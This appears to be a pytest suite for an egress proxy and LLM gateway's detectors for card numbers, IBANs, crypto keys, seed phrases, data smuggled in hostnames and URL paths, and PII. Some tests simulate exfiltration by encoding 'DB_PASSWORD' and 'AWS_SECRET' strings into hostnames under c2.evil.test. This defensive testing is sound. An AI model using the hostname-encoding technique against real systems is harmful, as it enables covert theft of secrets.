"""Detector families (issue 10, item 4; SPEC 6: `detect.financial`, `crypto_keys`,
`hostname_exfil`, `url_entropy`, `pii`): values found by their arithmetic or by their place,
each family with its action. Values are generated fresh (valid Luhn, mod-97, base58check and
BIP-39 checksums), never published test values (those are what agents paste in test code)."""

from __future__ import annotations

import base64
import hashlib
import secrets

import pytest

from detect_fixtures import *  # noqa: F401,F403
from detect_fixtures import fresh_key
from e2e_helpers import REPO, requests_session
from llm_fixtures import *  # noqa: F401,F403
from llm_fixtures import anthropic_client, gateway_url
from records import log_text, read_threats, wait_threats

B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def card_number() -> str:
    """A Visa number with a valid Luhn digit, random (not a test value)."""
    while True:
        digits = [4] + [secrets.randbelow(10) for _ in range(14)]
        total = 0
        for i, d in enumerate(reversed(digits)):
            if i % 2 == 0:
                d *= 2
                d = d - 9 if d > 9 else d
            total += d
        digits.append((10 - total % 10) % 10)
        s = "".join(map(str, digits))
        if len(set(s)) >= 6:
            return f"{s[0:4]} {s[4:8]} {s[8:12]} {s[12:16]}"


def iban_de() -> str:
    bban = "".join(str(secrets.randbelow(10)) for _ in range(18))
    n = int(bban + "131400")  # D=13 E=14, check digits 00
    check = 98 - n % 97
    return f"DE{check:02d}{bban}"


def wif() -> str:
    key = b"\x80" + secrets.token_bytes(32) + b"\x01"
    payload = key + hashlib.sha256(hashlib.sha256(key).digest()).digest()[:4]
    n = int.from_bytes(payload, "big")
    out = ""
    while n:
        n, r = divmod(n, 58)
        out = B58[r] + out
    return out


def btc_address() -> str:
    """A legacy (P2PKH) mainnet Bitcoin address of a random key hash, its checksum valid."""
    payload = b"\x00" + secrets.token_bytes(20)
    payload += hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    n = int.from_bytes(payload, "big")
    out = ""
    while n:
        n, r = divmod(n, 58)
        out = B58[r] + out
    return "1" + out  # the version byte 0x00 is written as a leading "1"


def seed_phrase() -> str:
    words = (REPO / "crates/scan/src/families/bip39_english.txt").read_text().split()
    entropy = secrets.token_bytes(16)
    bits = bin(int.from_bytes(entropy, "big"))[2:].zfill(128)
    bits += bin(hashlib.sha256(entropy).digest()[0])[2:].zfill(8)[:4]
    return " ".join(words[int(bits[i:i + 11], 2)] for i in range(0, 132, 11))


def _post(p, tag, body, **kw):
    with requests_session(p) as s:
        return s.post(f"https://example.test/t/{tag}", data=body, timeout=20,
                      headers={"content-type": "application/json"}, **kw)


def _no_leak(p, value: str):
    text = log_text(p, "threats.jsonl") + log_text(p, "flows.jsonl") + p.stderr_text()
    assert value not in text and value.replace(" ", "") not in text, "a record carries the value"


def test_a_card_number_is_warned_by_default_and_masked(detect_proxy, detect_up):
    p = detect_proxy()
    card, tag = card_number(), detect_up.new_tag()
    r = _post(p, tag, f'{{"customer": "x", "card": "{card}", "exp": "12/29"}}')
    assert r.status_code == 200, r.text
    t = wait_threats(p, lambda t: t.get("pattern") == "payment_card")[0]
    assert (t["family"], t["action"], t["threat_type"]) == ("financial", "warned", "EXFIL"), t
    assert card not in t["snippet"], t
    _no_leak(p, card)


def test_financial_block_refuses_an_iban(detect_proxy, detect_up):
    p = detect_proxy({"detect": {"financial": "block"}})
    iban, tag = iban_de(), detect_up.new_tag()
    r = _post(p, tag, f'{{"payout_account": "{iban}"}}')
    assert r.status_code == 403 and r.headers["x-airlock-rule"] == "iban", (r.status_code, r.text)
    assert detect_up.wait_settled(tag) == []
    _no_leak(p, iban)


def test_financial_block_refuses_a_bitcoin_address(detect_proxy, detect_up):
    """A drained wallet's destination in a tool call: warned by default, refused at block."""
    p = detect_proxy({"detect": {"financial": "block"}})
    address, tag = btc_address(), detect_up.new_tag()
    r = _post(p, tag, f'{{"tool": "transfer", "to": "{address}", "amount_btc": 0.8}}')
    assert r.status_code == 403, (r.status_code, r.text)
    assert r.headers["x-airlock-rule"] == "crypto_address"
    assert detect_up.wait_settled(tag) == []
    t = wait_threats(p, lambda t: t.get("pattern") == "crypto_address")[0]
    assert (t["family"], t["action"], t["threat_type"]) == ("financial", "blocked", "EXFIL"), t
    _no_leak(p, address)


@pytest.mark.parametrize("kind", ["wif", "seed"])
def test_crypto_keys_are_blocked_by_default(detect_proxy, detect_up, kind):
    p = detect_proxy()
    value = wif() if kind == "wif" else seed_phrase()
    tag = detect_up.new_tag()
    r = _post(p, tag, f'{{"wallet": "{value}"}}')
    assert r.status_code == 403, r.text
    assert r.headers["x-airlock-rule"] == ("crypto_wif" if kind == "wif" else "bip39_seed_phrase")
    assert detect_up.wait_settled(tag) == []
    _no_leak(p, value)


def test_the_families_keep_their_actions_with_the_credential_rules_off(detect_proxy, detect_up):
    """`outbound_secrets: off` turns the credential rules off, not the families: a seed phrase is
    still refused (crypto_keys: block), data in a hostname still warned; a key passes."""
    label = base64.b32encode(b"DB_PASSWORD=" + secrets.token_hex(10).encode()).decode().rstrip("=").lower()
    host = f"{label}.c2.evil.test"
    p = detect_proxy({"detect": {"outbound_secrets": "off"},
                      "resolve": {f"{host}:80": f"127.0.0.1:{detect_up.http_port}"}})
    phrase, tag = seed_phrase(), detect_up.new_tag()
    r = _post(p, tag, f'{{"wallet": "{phrase}"}}')
    assert r.status_code == 403 and r.headers["x-airlock-rule"] == "bip39_seed_phrase", (r.status_code, r.text)
    assert detect_up.wait_settled(tag) == []
    key, tag = fresh_key("github"), detect_up.new_tag()
    assert _post(p, tag, f'{{"token": "{key.text}"}}').status_code == 200
    with requests_session(p) as s:
        s.get(f"http://{host}/t/{detect_up.new_tag()}", timeout=20)
    t = wait_threats(p, lambda t: t.get("pattern") == "hostname_exfil")[0]
    assert t["action"] == "warned", t
    assert not read_threats(p, lambda t: t.get("pattern") == key.rule)
    _no_leak(p, phrase)


def test_a_prompt_keeps_the_families_with_llm_prompt_secrets_off(llm_gateway, llm_up):
    """`llm_prompt_secrets: off` lets credentials in prompts through; a wallet key is still refused."""
    import anthropic

    p = llm_gateway({"detect": {"llm_prompt_secrets": "off"}})
    c = anthropic_client(gateway_url(p))
    key = fresh_key("github")
    r = llm_up.reply(text="ok")
    c.messages.create(model="claude-sonnet-4-5", max_tokens=8,
                      messages=[{"role": "user", "content": r.prompt(f"use {key.text}")}])
    assert key.text.encode() in llm_up.wait_received(r.tag)[0].body
    r = llm_up.reply(text="never")
    with pytest.raises(anthropic.PermissionDeniedError):
        c.messages.create(model="claude-sonnet-4-5", max_tokens=8,
                          messages=[{"role": "user", "content": r.prompt(f"my wallet: {wif()}")}])
    assert llm_up.received(r.tag) == []


def test_published_test_values_pass(detect_proxy, detect_up):
    """Stripe's 4242… card and the all-'abandon' phrase are what agents put in test code."""
    p = detect_proxy()
    tag = detect_up.new_tag()
    r = _post(p, tag, '{"card": "4242 4242 4242 4242", "mnemonic": "abandon abandon abandon abandon '
                      'abandon abandon abandon abandon abandon abandon abandon about"}')
    assert r.status_code == 200
    assert not read_threats(p), read_threats(p)


def test_data_in_a_hostname_is_flagged(detect_proxy, detect_up):
    # base32 of text: every draw is flagged (the family's recall on random bytes is measured by
    # the scan crate's tests)
    label = base64.b32encode(b"AWS_SECRET=" + secrets.token_hex(10).encode()).decode().rstrip("=").lower()
    host = f"{label}.c2.evil.test"
    p = detect_proxy({"resolve": {f"{host}:80": f"127.0.0.1:{detect_up.http_port}"}})
    with requests_session(p) as s:
        s.get(f"http://{host}/t/{detect_up.new_tag()}", timeout=20)
    t = wait_threats(p, lambda t: t.get("pattern") == "hostname_exfil")[0]
    assert (t["family"], t["action"]) == ("hostname_exfil", "warned"), t
    assert t["location"] == "request hostname", t


def test_data_in_a_url_path_is_flagged_and_masked(detect_proxy, detect_up):
    p = detect_proxy()
    data = base64.urlsafe_b64encode(b"user=alice; home=/home/alice; token=" + secrets.token_bytes(24)).decode()
    tag = detect_up.new_tag()
    with requests_session(p) as s:
        r = s.get(f"https://example.test/t/{tag}/u/{data}", timeout=20)
    assert r.status_code == 200
    t = wait_threats(p, lambda t: t.get("pattern") == "url_entropy")[0]
    assert t["family"] == "url_entropy" and t["action"] == "warned", t
    flow = p.wait_flows(lambda f: tag in (f.get("url") or ""))[0]
    assert data not in flow["url"], flow["url"]


def test_content_hashes_and_uuids_in_urls_pass(detect_proxy, detect_up):
    p = detect_proxy()
    tag = detect_up.new_tag()
    sha = hashlib.sha256(secrets.token_bytes(8)).hexdigest()
    with requests_session(p) as s:
        s.get(f"https://example.test/t/{tag}/packages/ab/cd/{sha}/pkg-1.0.tar.gz"
              f"?v=8c1e4f2a-3b5d-4e6f-9a7b-0c1d2e3f4a5b", timeout=20)
    assert not read_threats(p), read_threats(p)


def test_pii_in_a_prompt_is_redacted_when_asked(llm_gateway, llm_up):
    p = llm_gateway({"detect": {"pii": "redact"}})
    c = anthropic_client(gateway_url(p))
    r = llm_up.reply(text="ok")
    email = f"j.{secrets.token_hex(4)}@acme-corp.io"
    c.messages.create(model="claude-sonnet-4-5", max_tokens=8,
                      messages=[{"role": "user", "content": r.prompt(f"write to {email} about it")}])
    body = llm_up.wait_received(r.tag)[0].body
    assert email.encode() not in body and b"[REDACTED:email_address]" in body, body[:300]
    t = wait_threats(p, lambda t: t.get("pattern") == "email_address")[0]
    assert (t["family"], t["action"]) == ("pii", "redacted"), t


def test_pii_is_off_by_default(llm_gateway, llm_up):
    p = llm_gateway()
    c = anthropic_client(gateway_url(p))
    r = llm_up.reply(text="ok")
    email = f"j.{secrets.token_hex(4)}@acme-corp.io"
    c.messages.create(model="claude-sonnet-4-5", max_tokens=8,
                      messages=[{"role": "user", "content": r.prompt(f"write to {email}")}])
    assert email.encode() in llm_up.wait_received(r.tag)[0].body
    assert not read_threats(p, lambda t: t.get("family") == "pii")
